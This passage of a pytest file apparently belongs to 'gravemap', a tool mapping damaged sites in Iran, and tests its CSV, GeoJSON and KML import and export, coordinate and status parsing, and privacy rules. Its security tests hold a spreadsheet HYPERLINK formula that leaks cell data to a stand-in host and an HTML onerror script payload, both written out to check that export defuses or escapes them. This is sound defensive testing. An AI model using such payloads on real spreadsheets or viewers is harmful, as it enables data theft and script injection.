    path.write_text(",,\n,,\n", encoding="utf-8")
    with pytest.raises(exchange.DataFileError) as info:
        exchange.read_table(path)
    assert str(info.value) == f"{path}: has no header row; its first line should name the columns"


def test_geojson_point_with_an_integer_too_large_for_a_float_is_a_row_problem(tmp_path):
    path = tmp_path / "points.geojson"
    path.write_text(
        '{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": '
        '{"name": "Synthetic", "url": "https://example.org/p", "publisher": "Example Org", '
        '"date": "2020"}, "geometry": {"type": "Point", "coordinates": [' + "9" * 400 + ", 31]}}]}",
        encoding="utf-8",
    )
    prepared = prepare(path, precision="site")
    assert [p.format() for p in prepared.problems] == [
        "row 1: geometry: has coordinates that are not finite numbers; "
        "give the site's point (its centre)"
    ]


def test_csv_export_defuses_spreadsheet_formulas_and_import_restores_them(tmp_path):
    formula = '=HYPERLINK("https://example.org/leak?"&A1,"synthetic")'
    site = make_site(name=formula, notes="-2 synthetic", city="@Testville")
    sites = list(model.SiteCollection.from_geojson(make_collection(site)))
    out = tmp_path / "out.csv"
    exchange.write_export(sites, "csv", out, include_private=False)
    row = next(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert row["name"] == "'" + formula
    assert row["city"] == "'@Testville"
    assert not any(v.startswith(("=", "+", "@")) for v in row.values() if v)
    assert exchange.restore_formula_text(row["name"]) == formula
    back = reimport(out)
    assert back[0]["properties"]["name"] == formula
    assert back[0]["properties"]["notes"] == "-2 synthetic"


def test_plain_csv_cells_lose_only_the_apostrophe_gravemap_added(tmp_path):
    assert exchange.restore_formula_text("'=1+1") == "=1+1"
    assert exchange.restore_formula_text("'quoted") == "'quoted"
    assert exchange.defuse_formula("Ahvaz") == "Ahvaz"
    assert exchange.defuse_formula(None) is None


# ---------------------------------------------------------------------------------------------
# KML: every text field is text (security finding 16)


def _kml_texts(path: Path) -> dict[str, list[str]]:
    """The text of every <name>, <SimpleData> and <Data><value> of a KML file, XML-decoded."""
    import xml.etree.ElementTree as ET

    ns = "{http://www.opengis.net/kml/2.2}"
    root = ET.parse(path).getroot()
    texts: dict[str, list[str]] = {}
    for placemark in root.iter(f"{ns}Placemark"):
        name = placemark.find(f"{ns}name")
        if name is not None and name.text:
            texts.setdefault("name", []).append(name.text)
        for data in placemark.iter(f"{ns}SimpleData"):
            texts.setdefault(data.get("name"), []).append(data.text or "")
        for data in placemark.iter(f"{ns}Data"):
            value = data.find(f"{ns}value")
            texts.setdefault(data.get("name"), []).append(
                (value.text or "") if value is not None else ""
            )
    return texts


def test_kml_export_shows_every_text_field_as_text(tmp_path):
    features = sample_features()
    payload = '<img src=x onerror="alert(1)"> & <b>bold</b>'
    props = features[0]["properties"]
    props["name"] = props["notes"] = props["city"] = payload
    props["sources"][0]["title"] = payload
    sites = [model.Site.from_feature(f) for f in features]
    prepared, _ = exchange.prepare_for_export(
        sites, exchange.ExportOptions(full_locations=True, include_withheld=True), ahvaz_only
    )
    out = tmp_path / "out.kml"
    exchange.write_export(prepared, "kml", out)
    texts = _kml_texts(out)
    assert set(texts) >= {"name", "notes", "city", "sources_json"}
    for field_name, values in texts.items():
        if field_name == "description":
            continue
        for value in values:
            assert "<" not in value and ">" not in value, (field_name, value)
    assert html.unescape(texts["name"][0]) == payload


def test_kml_export_imports_back_with_its_text_exactly(tmp_path):
    features = sample_features()
    payload = '<b>&amp; a synthetic "quote" & it\'s</b>'
    props = features[0]["properties"]
    props["name"] = props["notes"] = payload
    props["sources"][0]["title"] = payload
    sites = [model.Site.from_feature(f) for f in features]
    prepared, _ = exchange.prepare_for_export(
        sites, exchange.ExportOptions(include_private=True, include_withheld=True), ahvaz_only
    )
    out = tmp_path / "out.kml"
    exchange.write_export(prepared, "kml", out, include_private=True)
    imported = exchange.prepare_import(exchange.read_table(out), exchange.ImportSettings())
    assert not imported.problems
    back = {c.site.id: c.site for c in imported.candidates}
    site = back[features[0]["id"]]
    assert site.name == site.notes == site.sources[0].title == payload


# ---------------------------------------------------------------------------------------------
# Cells as NGO spreadsheets write them (issue 11)


@pytest.mark.parametrize(
    ("word", "status"),
    [
        ("Paved", "paved-over"),
        ("paved over", "paved-over"),
        ("Built over", "built-upon"),
        ("built_upon", "built-upon"),
        ("LEVELLED", "bulldozed"),
        ("تسطیح شده", "bulldozed"),
        ("تسطيح شده", "bulldozed"),  # Arabic yeh
        ("بتن‌ریزی شده", "paved-over"),
        ("بتن ریزی شده", "paved-over"),  # a space for the ZWNJ
        ("at risk", "at-risk"),
        ("Intact", "intact"),
    ],
)
def test_everyday_status_words_are_read(word, status):
    assert exchange.cells.read_status(word) == status


@pytest.mark.parametrize("word", ["destroyed", "Destroyed", "تخریب شده", "demolished"])
def test_vague_status_words_are_refused_with_the_statuses_they_could_mean(word):
    with pytest.raises(exchange.cells.CellError) as info:
        exchange.cells.read_status(word)
    assert "does not say how the site was destroyed" in info.value.message
    assert "bulldozed" in info.value.fix


def test_unknown_status_names_the_nearest_known_one():
    with pytest.raises(exchange.cells.CellError) as info:
        exchange.cells.read_status("paved-ovr")
    assert info.value.fix.startswith("did you mean paved-over?")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("36.2605, 59.6168", (36.2605, 59.6168)),
        ("۳۶٫۲۶۰۵، ۵۹٫۶۱۶۸", (36.2605, 59.6168)),
        ("35°36'44.4\"N 51°23'10.2\"E", (35.612333, 51.386167)),
        ("51°23'10.2\"E 35°36'44.4\"N", (35.612333, 51.386167)),
    ],
)
def test_a_coordinates_cell_is_read_as_latitude_then_longitude(text, expected):
    lat, lon = exchange.cells.read_coordinates(text)
    assert (lat, lon) == pytest.approx(expected, abs=1e-6)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("31.3190", 31.319),
        ("31,3190", 31.319),
        ("۳۱٫۳۱۹۰", 31.319),
        ("31°19'08.4\"N", 31.319),
        ("31 19 8.4 N", 31.319),
        ("48°41'03\" E", 48.684167),
        ("12.5 S", -12.5),
    ],
)
def test_a_lat_or_lon_cell_may_be_decimal_or_dms(text, expected):
    assert exchange.cells.read_coordinate(text).value == pytest.approx(expected, abs=1e-6)


def test_swapped_points_are_recognised_in_iran_and_anywhere_by_range():
    assert exchange.cells.looks_swapped(59.6, 36.2, "IR")
    assert not exchange.cells.looks_swapped(36.2, 59.6, "IR")
    assert exchange.cells.looks_swapped(120.0, 30.0, "FR")
    assert not exchange.cells.looks_swapped(48.8, 2.3, "FR")


def test_an_import_records_no_access_date_for_the_sources_it_adds(tmp_path):
    # The row does not say when its source was read, and importing it is not reading it: a
    # source added by import (a new site, or a new entry with --update) has no `accessed`.
    stored = make_site("ir-synthetic-01")
    collection = model.SiteCollection.from_geojson(make_collection(stored))
    row = copy.deepcopy(stored)
    props = row["properties"]
    props["sources"].append(
        {"id": "s3", "publisher": "Example Org", "title": "Later", "url": "https://example.org/l"}
    )
    props["status_history"].append({"status": "bulldozed", "date": "2020", "sources": ["s3"]})
    props["status"] = "bulldozed"
    path = tmp_path / "again.geojson"
    path.write_text(dumps_collection(make_collection(row)), encoding="utf-8")
    prepared = exchange.prepare_import(exchange.read_table(path), exchange.ImportSettings())
    exchange.apply_import(collection, prepared, update=True)
    added = collection.get("ir-synthetic-01").source_by_url("https://example.org/l")
    assert added is not None and added.accessed is None


def test_update_never_makes_a_site_more_public(tmp_path):
    stored = make_site("ir-synthetic-01", publish="withheld")
    collection = model.SiteCollection.from_geojson(make_collection(stored))
    row = copy.deepcopy(stored)
    row["properties"]["publish"] = "full"
    row["properties"]["name"] = "Corrected synthetic name"
    path = tmp_path / "again.geojson"
    path.write_text(dumps_collection(make_collection(row)), encoding="utf-8")
    prepared = exchange.prepare_import(exchange.read_table(path), exchange.ImportSettings())
    result = exchange.apply_import(collection, prepared, update=True)
    [change] = result.updates
    assert change.matched_by == "id" and change.applied
    assert "publish: 'withheld' -> 'full' (not applied: use gravemap edit to publish more)" in (
        change.changes
    )
    site = collection.get("ir-synthetic-01")
    assert (site.publish, site.name) == ("withheld", "Corrected synthetic name")


@settings(max_examples=80)
@given(text=st.text(max_size=60))
def test_kml_text_is_escaped_and_comes_back_exactly(text):
    escaped = exchange.export.kml_text(text)
    assert "<" not in escaped and ">" not in escaped
    assert html.unescape(escaped) == text
